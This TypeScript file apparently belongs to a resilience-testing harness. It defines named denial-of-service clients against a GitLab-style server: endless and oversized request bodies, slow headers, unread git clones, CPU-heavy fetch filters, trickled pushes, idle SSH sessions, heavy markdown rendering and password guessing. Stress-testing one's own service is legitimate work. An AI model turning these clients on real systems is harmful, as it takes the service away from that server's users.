/** The kinds of attacks on the availability of an target. */
import { once } from 'node:events';
import { Client } from 'ssh2';
import {
  requestHead,
  socketClient,
  writeEndlessly,
  writeSlowly,
  type HostileClient,
  type Target,
} from './hostile-client';

/** What one client of an attack uses. */
export interface AttackTarget extends Target {
  /** A public project with a large file. */
  project: { id: number; path: string; branch: string; tip: string };
  /** Path of the large file. */
  file: string;
  /** A user who may write to the project. */
  user: { username: string; token: string; privateKey: string };
  ssh: { host: string; port: number };
}

const JSON_TYPE = { 'Content-Type': 'application/json' };
const MIB = 1024 * 1024;

/** A client that sends one request as fast as possible and reads the response. */
function request(target: Target, head: string, body: Buffer | string = ''): HostileClient {
  return socketClient(target, (socket) => {
    socket.resume();
    socket.write(head);
    if (body.length > 0) socket.write(body);
  });
}

function jsonRequest(target: Target, path: string, body: object, headers: Record<string, string> = {}): HostileClient {
  const text = JSON.stringify(body);
  const head = requestHead('POST', path, {
    ...JSON_TYPE,
    'Content-Length': String(Buffer.byteLength(text)),
    Connection: 'close',
    ...headers,
  });
  return request(target, head, text);
}

function packetLine(text: string): string {
  return (text.length + 4).toString(16).padStart(4, '0') + text;
}

function basicOf({ username, token }: AttackTarget['user']): string {
  return `Basic ${Buffer.from(`${username}:${token}`).toString('base64')}`;
}

/** A fetch of everything, with an additional line such as a filter. */
function fetchRequest({ project }: AttackTarget, ...further: string[]): string {
  const lines = ['no-progress', ...further, `want ${project.tip}\n`, 'done\n'].map(packetLine);
  const body = `${packetLine('command=fetch')}0001${lines.join('')}0000`;
  return requestHead('POST', `/${project.path}.git/git-upload-pack`, {
    'Content-Type': 'application/x-git-upload-pack-request',
    'Git-Protocol': 'version=2',
    'Content-Length': String(body.length),
  }).concat(body);
}

/** Sends a request and never reads the response. */
function withoutReading(target: Target, text: string): HostileClient {
  return socketClient(target, (socket) => {
    socket.pause();
    socket.write(text);
  });
}

/** All attacks: what the clients do, by name. */
export const attacks: Record<string, (target: AttackTarget) => HostileClient> = {
  'send a body of 10 GiB without a token': (target) =>
    socketClient(target, (socket) => {
      socket.resume();
      socket.write(
        requestHead('POST', '/api/v4/projects/import', { ...JSON_TYPE, 'Content-Length': String(10_240 * MIB) }),
      );
      writeEndlessly(socket, Buffer.alloc(64 * 1024, '['));
    }),

  'send bodies of many values with a token': (target) =>
    jsonRequest(
      target,
      `/api/v4/projects/${target.project.id}/issues`,
      { title: 'x', values: new Array(90_000).fill(1) },
      { 'PRIVATE-TOKEN': target.user.token },
    ),

  'send their headers slowly': (target) =>
    socketClient(target, (socket) => {
      socket.write('GET /api/v4/version HTTP/1.1\r\nHost: localhost\r\n');
      writeSlowly(socket, 'X-Header: 1\r\n');
    }),

  'clone and read nothing': (target) => withoutReading(target, fetchRequest(target)),

  'fetch with a filter that costs CPU': (target) =>
    request(target, fetchRequest(target, `filter sparse:oid=${target.project.branch}:${target.file}`)),

  'push at 512 bytes a second': (target) =>
    socketClient(target, (socket) => {
      socket.resume();
      const update = `${'0'.repeat(40)} ${'1'.repeat(40)} refs/heads/slow\0report-status`;
      socket.write(
        requestHead('POST', `/${target.project.path}.git/git-receive-pack`, {
          'Content-Type': 'application/x-git-receive-pack-request',
          Authorization: basicOf(target.user),
          'Transfer-Encoding': 'chunked',
        }),
      );
      const start = `${packetLine(update)}0000PACK\0\0\0\x02\0\0\x27\x10`;
      socket.write(`${start.length.toString(16)}\r\n${start}\r\n`);
      writeSlowly(socket, `200\r\n${'x'.repeat(512)}\r\n`);
    }),

  'read a raw file slowly': (target) => {
    const path = `/api/v4/projects/${target.project.id}/repository/files/${target.file}/raw`;
    return withoutReading(target, requestHead('GET', `${path}?ref=${target.project.branch}`));
  },

  'open SSH sessions and send nothing': (target) => async (signal, onOpen) => {
    const { host, port } = target.ssh;
    const client = new Client();
    const close = (): void => void client.destroy();
    signal.addEventListener('abort', close, { once: true });
    client.on('error', close);
    const closed = once(client, 'close');
    client.on('ready', () => {
      client.exec(`git-upload-pack '${target.project.path}.git'`, (_error, stream) => {
        stream?.resume();
        onOpen();
      });
    });
    client.connect({
      host,
      port,
      localAddress: target.localAddress,
      username: 'git',
      privateKey: target.user.privateKey,
    });
    await closed;
    signal.removeEventListener('abort', close);
  },

  'render texts without a token': (target) =>
    jsonRequest(target, '/api/v4/markdown', { text: '*[a](b) `c` **d** '.repeat(220), gfm: true }),

  'guess passwords': (target) =>
    jsonRequest(target, '/oauth/token', {
      grant_type: 'password',
      username: target.user.username,
      password: 'a-wrong-password-1',
    }),

  'download the API reference': (target) =>
    request(target, requestHead('GET', '/api/v4/openapi.json', { Connection: 'close' })),
};
